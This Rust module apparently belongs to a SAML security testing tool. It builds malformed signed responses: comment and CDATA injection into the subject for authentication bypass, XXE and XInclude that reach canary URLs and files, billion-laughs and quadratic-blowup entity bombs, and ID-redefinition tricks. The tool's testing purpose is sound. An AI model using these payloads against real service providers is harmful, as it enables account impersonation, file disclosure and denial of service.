//! Markup that parsers treat differently: comments, CDATA and processing instructions in values; document types and entities.

use super::{FaultContext, step, step_at};
use crate::saml::plan::Plan;
use crate::xml::{Element, Node};

/// Faults of the markup.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Markup {
    /// A comment in the subject: `00u-alice<!---->.evil`, signed (CVE-2017-11427 and similar).
    CommentInSubject,
    /// A comment in the email address: `alice@example.com<!---->.evil.example`, signed.
    CommentInAttribute,
    /// A comment in the issuer, signed.
    CommentInIssuer,
    /// Comments between elements.
    CommentElsewhere,
    /// This number of comments.
    ManyComments(usize),
    /// A processing instruction in the subject: `00u-alice<?x?>.evil`, signed.
    InstructionInSubject,
    /// A processing instruction with the URL of a style sheet.
    StyleSheet,
    /// The subject is a CDATA section, signed.
    CdataInSubject,
    /// A document type without declarations.
    DocumentType,
    /// An internal entity in the subject that expands to the signed value.
    InternalEntity,
    /// A document type at a URL.
    ExternalDocumentType,
    /// A parameter entity at a URL.
    ParameterEntity,
    /// An external entity at a URL.
    ExternalEntity,
    /// An external entity in a file.
    FileEntity,
    /// Nested entities that expand exponentially.
    BillionLaughs,
    /// A long entity that is referenced many times.
    QuadraticBlowup,
    /// An attribute list declaration that makes another attribute an ID.
    AttributeList,
    /// An entity in the ID (CVE-2025-23369).
    EntityInId,
    /// XInclude of a file.
    Include,
    /// A schema at a URL.
    SchemaLocation,
}

impl Markup {
    pub(super) fn apply(self, plan: &mut Plan, context: &FaultContext<'_>) {
        let text = |text: &str| Node::Text(text.to_owned());
        let subject = |plan: &mut Plan, value: Vec<Node>| {
            plan.draft.assertion(|assertion| {
                if let Some(name_id) = &mut assertion.name_id {
                    name_id.value = value;
                }
            });
        };
        // The signature is over the expanded value, which a parser may restore.
        let entity = |name: &str| Node::Raw {
            written: format!("&{name};"),
            meaning: "00u-alice".to_owned(),
        };
        match self {
            Self::CommentInSubject => subject(
                plan,
                vec![
                    text("00u-alice"),
                    Node::Comment(String::new()),
                    text(".evil"),
                ],
            ),
            Self::CommentInAttribute => plan.draft.assertion(|assertion| {
                if let Some(attribute) = assertion.attributes.first_mut() {
                    let evil = vec![
                        text("alice@example.com"),
                        Node::Comment(String::new()),
                        text(".evil.example"),
                    ];
                    attribute.values = vec![evil];
                }
            }),
            Self::CommentInIssuer => {
                plan.before_assertion_signature
                    .push(step_at(&["Issuer"], |issuer| {
                        issuer.children.push(Node::Comment("comment".to_owned()));
                    }))
            }
            Self::CommentElsewhere => comments(plan, 1),
            Self::ManyComments(count) => comments(plan, count),
            Self::InstructionInSubject => subject(
                plan,
                vec![
                    text("00u-alice"),
                    Node::Instruction("x".to_owned()),
                    text(".evil"),
                ],
            ),
            Self::StyleSheet => {
                let href = context.canary.to_owned();
                before(
                    plan,
                    format!("<?xml-stylesheet href=\"{href}/style.xsl\" type=\"text/xsl\"?>"),
                );
            }
            Self::CdataInSubject => subject(plan, vec![Node::Cdata("00u-alice".to_owned())]),
            Self::DocumentType => before(plan, "<!DOCTYPE samlp:Response>".to_owned()),
            Self::InternalEntity => {
                subject(plan, vec![entity("e")]);
                doctype(plan, "<!ENTITY e \"00u-alice\">");
            }
            Self::ExternalDocumentType => {
                let canary = context.canary;
                before(
                    plan,
                    format!("<!DOCTYPE samlp:Response SYSTEM \"{canary}/saml.dtd\">"),
                );
            }
            Self::ParameterEntity => {
                doctype(
                    plan,
                    &format!("<!ENTITY % p SYSTEM \"{}/p.dtd\"> %p;", context.canary),
                );
            }
            Self::ExternalEntity => {
                subject(plan, vec![entity("e")]);
                doctype(
                    plan,
                    &format!("<!ENTITY e SYSTEM \"{}/e\">", context.canary),
                );
            }
            Self::FileEntity => {
                subject(plan, vec![entity("e")]);
                doctype(
                    plan,
                    &format!("<!ENTITY e SYSTEM \"file://{}\">", context.canary_file),
                );
            }
            Self::BillionLaughs => {
                subject(plan, vec![entity("l9")]);
                let laughs = (1..10).map(|level| {
                    let below = format!("&l{};", level - 1).repeat(10);
                    format!("<!ENTITY l{level} \"{below}\">")
                });
                doctype(
                    plan,
                    &format!("<!ENTITY l0 \"lol\">{}", laughs.collect::<String>()),
                );
            }
            Self::QuadraticBlowup => {
                let long = "x".repeat(50_000);
                subject(plan, vec![entity("e"); 2_000]);
                doctype(plan, &format!("<!ENTITY e \"{long}\">"));
            }
            Self::AttributeList => doctype(plan, "<!ATTLIST saml:Assertion Version ID #IMPLIED>"),
            Self::EntityInId => {
                plan.on_text.push(Box::new(|document| {
                    let end = document.find("\" Version=").unwrap_or_default();
                    let (head, tail) = document.split_at(end);
                    format!("{head}&e;{tail}")
                }));
                doctype(plan, "<!ENTITY e \"\">");
            }
            Self::Include => {
                let include = Element::new("xi:include")
                    .with("xmlns:xi", "http://www.w3.org/2001/XInclude")
                    .with("href", format!("file://{}", context.canary_file))
                    .with("parse", "text");
                plan.before_assertion_signature.push(step_at(
                    &["Subject", "NameID"],
                    move |name_id| {
                        name_id.append(include.clone());
                    },
                ));
            }
            Self::SchemaLocation => {
                let location = format!(
                    "urn:oasis:names:tc:SAML:2.0:protocol {}/p.xsd",
                    context.canary
                );
                plan.after_response_signature.push(step(move |response| {
                    response.set("xmlns:xsi", crate::saml::names::XSI);
                    response.set("xsi:schemaLocation", &location);
                }));
            }
        }
    }
}

fn comments(plan: &mut Plan, count: usize) {
    plan.after_response_signature
        .push(step_at(&["Assertion"], move |assertion| {
            let comments = (0..count).map(|n| Node::Comment(format!(" {n} ")));
            assertion.children.splice(1..1, comments);
        }));
}

fn before(plan: &mut Plan, text: String) {
    plan.on_text
        .push(Box::new(move |document| format!("{text}{document}")));
}

fn doctype(plan: &mut Plan, subset: &str) {
    before(plan, format!("<!DOCTYPE samlp:Response [{subset}]>"));
}
